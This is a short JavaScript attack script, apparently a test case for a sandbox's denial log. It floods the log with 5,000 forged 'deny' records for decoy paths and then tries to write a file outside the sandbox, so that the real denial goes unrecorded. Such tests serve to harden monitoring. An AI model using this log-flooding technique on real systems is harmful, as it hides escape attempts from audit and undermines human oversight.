/* @attack {"title": "fill the denial table: 5,000 distinct valid forged denials, so the real one that follows is not itemised", "dropped": "denials"} */
import fs from 'node:fs';
import { send } from './_raw.mjs';
let text = '';
for (let i = 0; i < 5000; i++) text += `${JSON.stringify({ t: 'deny', op: 'read', syscall: 'open', path: `/decoy/${i}`, rule: 'fs.read', reason: 'decoy', at: Date.now() })}\n`;
await send(text);
try {
  fs.writeFileSync(`${process.env.OUTSIDE}/x`, 'drowned\n');
} catch {}
